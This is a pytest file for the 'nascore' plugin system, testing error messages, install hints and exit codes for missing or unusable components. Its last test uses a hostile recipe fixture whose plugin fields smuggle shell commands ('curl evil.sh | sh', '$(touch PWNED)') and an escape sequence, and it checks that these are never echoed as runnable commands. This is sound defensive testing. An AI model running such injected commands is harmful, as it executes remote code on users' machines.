"""Names of what is not installed: which distribution brings it, and the exit code of plugins."""

from types import SimpleNamespace

import pytest
from attrs import evolve
from recipe_sample import CORE, NEXT_TO_XNAS, TABLE, hooks, part, recipe, registry

from nascore.component import Preset, hookimpl
from nascore.errors import PluginError, RecipeError
from nascore.plugin import Plugin, Registry
from nascore.recipe import Request, settled


@pytest.fixture(scope="module")
def installed():
    return registry()


MORE = "Your own plugin can add one: nascore new-plugin --help."


def write(folder, text, name="main.yaml"):
    path = folder / name
    path.write_text(f"nascore: 2\n{text}", encoding="utf-8")
    return path


def refused(installed, kind, **asked):
    with pytest.raises(kind) as caught:
        settled(Request(**asked), installed, run=CORE, slots=TABLE)
    return caught.value


@pytest.mark.parametrize(
    ("slot", "name", "distribution"),
    [
        ("updater", "geonas", "nascore-geonas"),
        ("space", "mbconv", "nascore-spaces"),
        ("updater", "nascore-geonas:geonas", "nascore-geonas"),
    ],
)
def test_a_known_component_says_what_to_install(installed, slot, name, distribution):
    error = refused(installed, PluginError, names={slot: [name]})
    assert error.exit_code == 4
    assert str(error) == (
        f"{slot}: no {slot} is called {name}; {distribution} provides it but is not installed. "
        f"pip install {distribution}\n     from --{slot} {name}"
    )


def test_a_known_component_in_a_file_names_the_place(installed, tmp_path):
    path = write(tmp_path, "updater: {name: geonas, lr: 1}\n")
    error = refused(installed, PluginError, recipe=path)
    [problem] = error.problems
    assert str(problem.origin) == f"{path}:2:17"
    assert problem.missing == "nascore-geonas"


def test_a_known_preset_says_what_to_install():
    bare = Registry.of(TABLE, own=SimpleNamespace(**hooks([part("digits", "dataset")])))
    [problem] = (one for one in recipe(bare, preset="darts-cifar10").problems if one.path == "preset")
    assert problem.missing == "nascore-darts"
    assert problem.hint == "pip install nascore-darts"


def test_an_ambiguous_preset_says_how_to_write_it():
    presets = [Preset(name="darts-cifar10", summary="Another.", text="nascore: 2\nseed: 8\n")]
    both = registry(idea=SimpleNamespace(nascore_presets=hookimpl(lambda: presets)))
    error = refused(both, PluginError, preset="darts-cifar10")
    assert error.problems[0].text == "2 plugins bring a preset darts-cifar10."
    assert error.problems[0].hint == "Write sample:darts-cifar10 or idea:darts-cifar10."
    assert recipe(both, preset="idea:darts-cifar10").run.seed == 8


def test_a_preset_whose_file_is_gone_is_its_plugins_mistake(tmp_path):
    presets = [Preset(name="lost", summary="Lost.", path=tmp_path / "lost.yaml")]
    one = registry(idea=SimpleNamespace(nascore_presets=hookimpl(lambda: presets)))
    error = refused(one, PluginError, preset="lost")
    assert error.problems[0].text.startswith("preset lost of plugin idea cannot be read: FileNotFoundError")


def test_a_mistake_beside_it_keeps_the_exit_code_of_recipes(installed):
    error = refused(installed, RecipeError, names={"updater": ["geonas"]}, sets=["seed=x"])
    assert error.exit_code == 3
    assert "pip install nascore-geonas" in str(error)


def test_a_misspelt_component_is_a_mistake_of_the_recipe(installed):
    assert refused(installed, RecipeError, names={"updater": ["dart"]}).exit_code == 3


@pytest.mark.parametrize(
    ("status", "said"),
    [
        ("broken", "nascore-geonas is broken: it has no module."),
        ("blocked", "nascore-geonas is switched off: it has no module."),
        ("clash", "nascore-geonas clashes with another plugin: it has no module."),
        ("foreign", "nascore-geonas is made for a different version of nascore: it has no module."),
    ],
)
def test_an_installed_plugin_that_cannot_be_used_is_named_with_its_cause(installed, status, said):
    plugin = Plugin(name="nascore-geonas", value="x", distribution="nascore-geonas")
    plugin = evolve(plugin, status=status, reason="it has no module")
    both = Registry([*installed.plugins, plugin])
    error = refused(both, PluginError, names={"updater": ["geonas"]})
    [problem] = error.problems
    assert problem.text == f"no updater is called geonas; {said}"
    assert problem.hint == "Run nascore plugins doctor."


def test_an_ambiguous_name_has_the_exit_code_of_plugins():
    error = refused(registry(idea=NEXT_TO_XNAS), PluginError, names={"updater": ["xnas"]})
    assert error.problems[0].hint == "Write sample:xnas or idea:xnas."


def test_a_missing_component_is_no_matter_where_another_was_named(installed, tmp_path):
    path = write(tmp_path, "updater: {name: geonas, lr: 1}\nregularizer: [nothing, l1]\ndataset: null\n")
    names = {"updater": ["darts"], "regularizer": ["l1"], "dataset": ["digits"]}
    found = settled(Request(recipe=path, names=names), installed, run=CORE, slots=TABLE)
    assert (found.names("updater"), found.setting("updater.lr")) == (("darts",), 3e-4)
    above = write(
        tmp_path, "include: main.yaml\nupdater: darts\nregularizer: none\ndataset: digits\n", "a.yaml"
    )
    assert recipe(installed, recipe=above).problems == ()


def test_a_missing_component_of_a_slot_that_plays_no_part_is_no_matter(installed, tmp_path):
    path = write(tmp_path, "updater: geonas\n")
    data = [slot for slot in TABLE if slot.name == "dataset"]
    assert settled(Request(recipe=path), installed, run=CORE, slots=data).names("dataset") == ("digits",)


@pytest.mark.parametrize(
    ("source", "cure", "missing"),
    [
        ("files/idea.py", "Add --with {folder}/files/idea.py.", ""),
        (
            "their-idea==1.0",
            "The recipe names their-idea==1.0: install it if you know its authors.",
            "their-idea",
        ),
        ("nascore-data==1.0", "pip install nascore-data", "nascore-data"),
    ],
)
def test_a_recipe_says_with_which_plugin_it_was_made(installed, tmp_path, source, cure, missing):
    path = write(tmp_path, f"plugins: {{idea: {source}, sample: sample}}\nupdater: mine\n")
    error = refused(installed, PluginError, recipe=path)
    [problem] = error.problems
    assert problem.text == (
        "no updater is called mine; the recipe was made with the plugin idea, which is not loaded."
    )
    known = f"Installed: darts, data, uniform, xnas. {MORE}"
    assert (problem.hint, problem.missing) == (f"{known} {cure.format(folder=tmp_path)}", missing)
    assert str(problem.origin) == f"{path}:3:10"


def test_a_plugin_that_is_gone_is_warned_of_where_no_part_is_missing(installed, tmp_path):
    path = write(tmp_path, "plugins: {idea: idea.py}\nupdater: darts\n")
    [problem] = recipe(installed, recipe=path).problems
    assert (problem.verdict, problem.path) == ("warned", "plugins")
    assert str(problem.origin) == f"{path}:2:17"
    loaded = registry(idea=NEXT_TO_XNAS)
    assert recipe(loaded, recipe=path).problems == ()


@pytest.mark.parametrize(
    "wrong", ["plugins: idea", "plugins: [idea]", "plugins: {idea: 3}", "plugins: {idea: ~}"]
)
def test_the_record_of_plugins_is_read_strictly(installed, tmp_path, wrong):
    [problem] = recipe(installed, recipe=write(tmp_path, wrong + "\n")).problems
    assert problem.path.startswith("plugins")
    assert str(problem.origin).endswith(":2:10") or str(problem.origin).endswith(":2:17")


@pytest.mark.parametrize(
    ("names", "said"),
    [
        ({"space": ["chain.yaml"]}, "space: no space is called chain.yaml. Write --space file:chain.yaml."),
        (
            {"relaxation": ["darts"]},
            "relaxation: darts is a component of slot space, not of relaxation. Write --space darts.",
        ),
    ],
)
def test_what_was_meant_by_a_flag(installed, names, said):
    [problem] = recipe(installed, names=names).problems
    assert str(problem).startswith(said)


def test_what_was_meant_in_a_file_is_said_as_a_file_says_it(installed, tmp_path):
    path = write(tmp_path, "updater: softmax\nspace: chain.yaml\n")
    hints = {problem.path: problem.hint for problem in recipe(installed, recipe=path).problems}
    assert hints == {"updater": "Write relaxation: softmax.", "space": "Write space: file:chain.yaml."}


@pytest.mark.parametrize(
    ("text", "hint"),
    [
        ("updater: dart\n", "Did you mean darts?"),
        ("updater: softmax\n", "Write relaxation: softmax."),
    ],
)
def test_a_better_hint_and_its_exit_code_stay(installed, tmp_path, text, hint):
    error = refused(installed, RecipeError, recipe=write(tmp_path, f"plugins: {{idea: idea.py}}\n{text}"))
    assert error.exit_code == 3
    problem, doubt = error.problems
    assert (problem.hint, problem.of_plugin) == (hint, False)
    assert (doubt.path, doubt.verdict) == ("plugins", "warned")


def test_what_was_typed_is_not_charged_to_the_recipe_beside_it(installed, tmp_path):
    path = write(tmp_path, "plugins: {idea: idea.py}\nupdater: darts\n")
    error = refused(installed, RecipeError, recipe=path, names={"updater": ["qqq"]})
    problem, doubt = error.problems
    assert problem.text == "no updater is called qqq."
    assert (doubt.path, doubt.verdict) == ("plugins", "warned")


def test_a_plugin_of_a_recipe_that_is_there_and_not_ready_is_not_to_be_installed(installed, tmp_path):
    idle = Plugin(name="idea", value="x", distribution="x", status="broken", reason="so", cure="Do that.")
    path = write(tmp_path, "plugins: {idea: x==1.0}\nupdater: qqq\n")
    [problem] = refused(Registry([*installed.plugins, idle]), PluginError, recipe=path).problems
    assert problem.hint.endswith(f"uniform, xnas. {MORE} idea is broken: so. Do that.")
    assert problem.missing == ""


EVIL = """
updater: darts
plugins:
  x: "evil-pkg; curl evil.sh | sh; echo ==1"
  y: "$(touch PWNED).py"
  "z\\e[31m": "a\\nb==1"
"""


def test_a_strangers_recipe_writes_no_command(installed, tmp_path):
    path = write(tmp_path, EVIL)
    error = str(refused(installed, RecipeError, recipe=path))
    assert "plugins.x: 'evil-pkg; curl evil.sh | sh; echo ==1' is neither DISTRIBUTION==VERSION" in error
    assert f"--with '{tmp_path}/$(touch PWNED).py'" in error
    assert "pip install" not in error
    assert "\x1b" not in error
    assert "'z\\x1b[31m' is not a plugin name" in error
